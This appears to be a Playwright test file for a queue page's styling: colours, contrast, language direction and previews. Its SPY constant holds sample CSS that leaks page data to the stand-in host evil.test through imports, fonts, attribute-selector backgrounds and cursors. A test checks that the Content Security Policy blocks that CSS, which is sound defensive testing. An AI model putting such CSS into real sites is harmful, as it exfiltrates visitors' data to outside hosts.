"""The appearance of a room's page: colours, languages, no JavaScript, and malicious CSS."""

import json
import re
import shutil

import pytest
from playwright.sync_api import expect

from sidecar.gate.page.preview import SCRIPT, STATES, Preview
from sidecar.gate.page.render import Page
from sidecar.kit.colours import contrast, read_colour
from sidecar.rooms.settings import RoomSettings
from tests.support.site import ROOT, Site, gated

FOOTER = [
    {"text": "Imprint", "address": "/imprint"},
    {"text": "Call us", "address": "tel:+41441234567"},
]
LOOK = {
    "site_name": "Alpenrock", "accent": "#ffd400", "background": "#10243e",
    "font": "Georgia, Liberation Serif, serif", "footer": json.dumps(FOOTER),
    "custom_css": "h1 { letter-spacing: 3px }",
}  # fmt: skip
IN_LINE = "Sie sind in der Warteschlange"
HEADINGS = {
    "joining": "Sie werden eingereiht …", "waiting": IN_LINE, "paused": IN_LINE, "error": IN_LINE,
    "no-script": IN_LINE, "next": re.compile("als Nächste"), "called": re.compile("an der Reihe"),
    "opens": re.compile("^Öffnet (am|um) "), "prequeue": re.compile("Vorab-Warteschlange"),
    "closed": re.compile("niemanden mehr auf"), "full": re.compile("gerade voll"),
    "left": re.compile("verlassen"), "lost": re.compile("nicht in der Warteschlange"),
}  # fmt: skip
#: CSS of an attacker that sends data to other sites, if custom_css were not checked.
SPY = """\
@import "https://evil.test/a.css";
@font-face { font-family: spy; src: url(https://evil.test/a.woff2) }
[data-next^="/own"] main { background: url(https://evil.test/next) }
input[value^="/own"] ~ * { background: image-set("https://evil.test/b" 1x); font-family: spy }
h1 { list-style: url(//evil.test/c) inside; display: list-item }
h1 { cursor: url(https://evil.test/d), auto }
"""


@pytest.fixture(scope="module")
def site():
    rooms = {"own": {"total_active_users": 0, **LOOK}, "plain": {"total_active_users": 0}}
    locations = "".join(gated(f"/{room}/", room=room) for room in rooms)
    with Site(rooms=rooms, locations=locations) as site:
        yield site


def read_computed_colour(page, selector, name):
    """Return a computed colour of an element."""
    element = page.locator(selector).first
    text = element.evaluate("(e, name) => getComputedStyle(e)[name]", name)
    red, green, blue = re.findall(r"[\d.]+", text)[:3]
    return read_colour(f"rgb({red} {green} {blue})")


def behind(page, selector):
    return read_computed_colour(page, selector, "backgroundColor")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("language", ["de", "ar"])
def test_the_page_belongs_to_the_site(site, visitor, scheme, language):
    """The page has the site's colours, font, CSS, name and links, with sufficient contrast."""
    page = visitor(color_scheme=scheme, locale=language)
    page.goto(f"{site.url}/own/")
    expect(page.locator("#site")).to_have_text("Alpenrock")
    links = page.locator("footer a")
    expect(links).to_have_text(["Imprint", "Call us"])
    expect(links.first).to_have_attribute("target", "_blank")
    assert page.evaluate("document.documentElement.dir") == ("rtl" if language == "ar" else "ltr")
    expect(page.locator("h1")).to_have_css("letter-spacing", "3px")
    assert (
        page.locator("body").evaluate("e => getComputedStyle(e).fontFamily").startswith("Georgia")
    )
    assert behind(page, "body") == read_colour("#10243e")
    for text in ("#site", "footer a"):
        assert contrast(read_computed_colour(page, text, "color"), behind(page, "body")) >= 4.5
    # Scripts cannot read the colour inside the bar, so this is the property that sets it.
    bar = page.locator("progress").evaluate(
        "e => getComputedStyle(e).getPropertyValue('--wr-mark')"
    )
    assert contrast(read_colour(bar), behind(page, "main")) >= 4.5
    page.locator("form summary").click()
    stay = page.locator("#stay")
    expect(stay).to_be_visible()
    assert behind(page, "#stay") == read_colour("#ffd400")
    assert contrast(read_computed_colour(page, "#stay", "color"), behind(page, "#stay")) >= 4.5
    assert page.problems == []


def test_rules_that_spy_reach_nobody(site, visitor):
    """The Content Security Policy of the page blocks requests of malicious CSS."""
    page = visitor()
    asked = []
    page.route("**/own/style.css", lambda route: route.fulfill(body=SPY, content_type="text/css"))
    page.route(
        "https://evil.test/**", lambda route: (asked.append(route.request.url), route.abort())
    )
    page.goto(f"{site.url}/own/?a=secret")
    expect(page.locator("#number")).not_to_be_empty()
    expect(page.locator("h1")).to_have_css("display", "list-item")  # The CSS applies.
    page.locator("h1").hover()
    page.reload()
    expect(page.locator("#number")).not_to_be_empty()
    assert all(address.startswith(f"{site.url}/") for address in asked)
    assert len([text for text in page.problems if "Content Security Policy" in text]) >= 5


@pytest.mark.parametrize("state", STATES)
def test_a_preview_shows_each_state(visitor, tmp_path, state):
    """A preview from a folder without a server runs the page's script in the chosen state."""
    settings = RoomSettings(total_active_users=1, **LOOK)
    page = Preview(Page(ROOT / "static"), "own", settings, static="static/", language="de")
    (tmp_path / "page.html").write_text(page.html(state), encoding="utf-8")
    shutil.copytree(ROOT / "static", tmp_path / "static")
    shutil.copy(SCRIPT, tmp_path / "static")
    shown = visitor(locale="de")
    shown.goto(f"file://{tmp_path}/page.html")
    expect(shown.locator("h1")).to_have_text(HEADINGS[state])
    expect(shown.locator("body")).to_have_css("background-color", "rgb(16, 36, 62)")
    expect(shown.locator("footer a")).to_have_text(["Imprint", "Call us"])
    expect(shown.locator("#offline")).to_be_visible(visible=state == "error")
    expect(shown.locator("#paused")).to_be_visible(visible=state == "paused")
    assert shown.problems == []
